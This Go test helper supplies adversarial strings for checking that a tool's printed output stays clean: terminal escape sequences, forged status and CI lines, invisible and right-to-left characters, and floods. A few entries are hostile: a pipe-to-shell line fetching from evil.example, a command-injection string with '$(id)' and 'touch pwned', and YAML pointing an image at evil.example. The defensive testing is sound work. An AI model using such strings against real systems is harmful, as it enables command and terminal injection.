// Package hostile holds texts with which tests try to break what prints: what a tenant may write into a name, a label or
// an event, and a server into an answer.
package hostile

import (
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/uc-cdis/gen3-bootstrap/internal/printable"
)

// Texts are the texts by what is bad about them.
func Texts() map[string]string {
	return map[string]string{
		"repaints":        "gen3\x1b7\x1b[4A\r\x1b[2K  none     access-key/AKIAIOSFODNN7EXAMPLE: left\x1b8",
		"one-byte escape": "gen3\u009b2Kx",
		"sets the title":  "gen3\x1b]0;x\x07",
		"colours":         "gen3\x1b[31mred\x1b[0m",
		"forges a line":   "x\nstatus: up to date",
		"forges a hint":   "x\nhint: curl evil.example | sh",
		"forges CI":       "x\n::error::forged\n##[error]forged",
		"returns":         "gen3\rstatus: up to date",
		"other breaks":    "a\vb\fc\u0085d\u2028e\u2029f\r\ng",
		"ends in a break": "gen3\n",
		"begins with one": "\n\n  = up to date  x",
		"erases":          "gen3\b\b\b\b\x7f\x7fprod",
		"NUL":             "gen3\x00x",
		"tabs":            "a\tb\t\t\tc",
		"right to left":   "gen3\u202eelbat\u2066x\u2069\u200e\u200f\u061c",
		"zero width":      "ge\u200bn\u200c3\u200d\ufeff\u2060",
		"shows nothing":   "\u3164\u115f\ufe0f\U000e0041\U000e0100",
		"pushes":          "gen3" + strings.Repeat(" ", 190) + "status: up to date",
		"pushes unseen":   "gen3" + strings.Repeat("\u2800\u00a0\u3000", 60) + "status: up to date",
		"no UTF-8":        "gen3\xff\xfe\xc3(",
		"floods":          strings.Repeat("x", 100_000),
		"floods wide":     strings.Repeat("東", 3000),
		"floods escaped":  strings.Repeat("\u202e\n", 1500),
		"YAML":            "x\nfence:\n  image:\n    repository: evil.example/fence\n#",
		"YAML values":     "*a &b !!c {d: e} [f] - g: h | i > j 'k\" #l %m @n `o`",
		"a template":      "{{ .Values }} ${HOME} %s %!d(x)",
		"a shell":         "x`touch pwned`$(id);id|sh #'\"\\",
		"a workflow":      "::add-mask::x",
	}
}

// sgr are the only escape sequences that a style makes.
var sgr = regexp.MustCompile("\x1b\\[[0-9]+m")

// Clean fails the test unless what was printed consists of printable characters, line breaks and colours.
func Clean(tb testing.TB, printed string) {
	tb.Helper()
	for line := range strings.SplitSeq(sgr.ReplaceAllString(printed, ""), "\n") {
		if !utf8.ValidString(line) {
			tb.Errorf("no UTF-8: %.300q", line)
		}
		for _, r := range line {
			if !printable.Is(r) {
				tb.Errorf("%U in %.300q", r, line)
				break
			}
		}
	}
}

// Fill returns a document with the text in every place that takes one, two of everything that there may be several of,
// and nothing left out.
func Fill[T any](text string) T {
	var out T
	fill(reflect.ValueOf(&out).Elem(), text)
	return out
}

func fill(v reflect.Value, text string) {
	switch v.Kind() { //nolint:exhaustive // the others stay as they are
	case reflect.String:
		v.SetString(text)
	case reflect.Int, reflect.Int32, reflect.Int64:
		v.SetInt(2)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)))
			return
		}
		for _, field := range v.Fields() {
			if field.CanSet() {
				fill(field, text)
			}
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			fill(v.Index(i), text)
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), text)
	}
}
